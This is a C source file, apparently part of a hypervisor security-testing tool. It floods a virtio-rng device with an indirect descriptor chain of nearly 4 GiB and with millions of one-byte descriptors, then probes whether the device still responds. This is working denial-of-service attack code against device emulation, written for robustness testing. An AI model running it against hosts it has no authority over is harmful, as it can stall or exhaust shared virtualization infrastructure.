/*
 * virtio-rng with absurd buffers:
 *   rng-huge ADDR: one chain whose writable length is just under 4 GiB: an indirect table
 *     of `--entries` buffers of `--chunk` bytes, all the same bytes (the last one a byte
 *     short when the total would reach 2^32, which the spec forbids).
 *   rng-tiny ADDR: every slot of the queue an indirect table of `--entries` one-byte
 *     buffers, re-posted `--rounds` times: millions of descriptors for a few KiB.
 * Both finish with a plain 64-byte buffer to show whether the device still serves.
 */
#include "attack.h"

struct rng { struct vdev d; struct vq q; };

static void rng_start(struct rng *r, const char *addr, u32 qsize) {
	vdev_open(&r->d, addr);
	vdev_start(&r->d, (1ull << F_VERSION_1) | (1ull << F_INDIRECT_DESC));
	if (!(r->d.features >> F_INDIRECT_DESC & 1)) die("no INDIRECT_DESC");
	vq_setup(&r->d, &r->q, 0, (u16)qsize);
	vq_interrupts(&r->q, 0);
	vdev_driver_ok(&r->d);
}

/* A direct 64-byte buffer; prints probe_len (0 when nothing came back). */
static void rng_probe(struct rng *r) {
	u32 buf = region_alloc(64, 64);
	desc_set(&r->q.desc[0], buf, 64, D_WRITE, 0);
	vq_publish(&r->q, 0);
	vq_kick(&r->q);
	u32 ready = vq_wait(&r->q, 1, 5000);
	kv("probe_len", ready ? vq_take(&r->q).len : 0);
	vdev_isr(&r->d);
	vdev_report(&r->d);
}

int attack_rng_huge(int argc, char **argv) {
	if (argc < 1) die("usage: rng-huge ADDR [--entries N] [--chunk BYTES]");
	u32 entries = option("--entries", 32768), chunk = option("--chunk", 131072);
	struct rng r;
	rng_start(&r, argv[0], 16);
	u32 buf = region_alloc(chunk, 4096);
	u32 table = indirect_table(entries, buf, chunk, D_WRITE);
	u64 total = (u64)entries * chunk;
	if (total > 0xffffffffull) {
		volatile struct vdesc *t = pa_to_va(table);
		t[entries - 1].len = chunk - (u32)(total - 0xffffffffull);
		total = 0xffffffffull;
	}
	kv64("writable", total);
	desc_set(&r.q.desc[0], table, entries * 16, D_INDIRECT, 0);
	vq_publish(&r.q, 0);
	vq_kick(&r.q);
	u32 ready = vq_wait(&r.q, 1, 60000);
	kv("completed", ready);
	if (ready) kv("used_len", vq_take(&r.q).len);
	vdev_isr(&r.d);
	rng_probe(&r);
	return 0;
}

int attack_rng_tiny(int argc, char **argv) {
	if (argc < 1) die("usage: rng-tiny ADDR [--entries N] [--rounds N] [--qsize N]");
	u32 entries = option("--entries", 32768), rounds = option("--rounds", 4);
	struct rng r;
	rng_start(&r, argv[0], option("--qsize", 64));
	/* One table for every slot: entry i is byte i of one buffer. */
	u32 buf = region_alloc(entries, 4096);
	u32 table = region_alloc(16 * entries, 16);
	volatile struct vdesc *t = pa_to_va(table);
	for (u32 i = 0; i < entries; i++) {
		int last = i + 1 == entries;
		desc_set(&t[i], buf + i, 1, (u16)(D_WRITE | (last ? 0 : D_NEXT)), (u16)(last ? 0 : i + 1));
	}
	u32 posted = 0, used = 0, short_fills = 0;
	u64 bytes = 0;
	for (u32 round = 0; round < rounds; round++) {
		for (u32 s = 0; s < r.q.size; s++) {
			desc_set(&r.q.desc[s], table, entries * 16, D_INDIRECT, 0);
			vq_publish(&r.q, (u16)s);
		}
		posted += r.q.size;
		vq_kick(&r.q);
		u32 ready = vq_wait(&r.q, r.q.size, 120000);
		for (u32 i = 0; i < ready; i++) {
			u32 len = vq_take(&r.q).len;
			bytes += len;
			short_fills += len < entries;
			used++;
		}
		vdev_isr(&r.d);
		if (ready < r.q.size) break;
	}
	kv("chains_posted", posted);
	kv("chains_used", used);
	kv64("descriptors_posted", (u64)posted * entries);
	kv64("bytes_used", bytes);
	kv("short_fills", short_fills);
	rng_probe(&r);
	return 0;
}
